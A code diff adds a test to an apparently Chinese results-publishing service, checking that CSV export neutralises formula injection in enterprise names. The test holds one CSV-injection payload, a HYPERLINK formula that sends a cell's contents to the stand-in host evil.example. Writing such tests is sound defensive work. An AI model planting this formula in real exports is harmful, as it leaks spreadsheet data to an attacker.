@@ -184,3 +184,15 @@ def test_overdue_results_per_department(db_session):
 def test_overdue_results_positional_call_for_the_watch_job(db_session):
     """The publicity-watch job calls overdue_results(db_session, today)."""
     assert service.overdue_results(db_session, D(2026, 1, 5)) == []
+
+
+def test_csv_neutralises_an_enterprise_name_that_is_a_formula(db_session):
+    firm, _, rows = _visit_with_results(db_session, D(2026, 2, 16))
+    firm.name = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
+    db_session.flush()
+    service.publish_results(
+        db_session=db_session, result_ids=[r.id for r in rows], actor=f.coordinator("c")
+    )
+    table = list(csv.reader(io.StringIO(service.export_csv(db_session, period="2026Q1")[1:])))
+    [line] = [row for row in table if row[0] == firm.credit_code]
+    assert line[1] == "'" + firm.name  # shown as text by Excel and WPS, never run
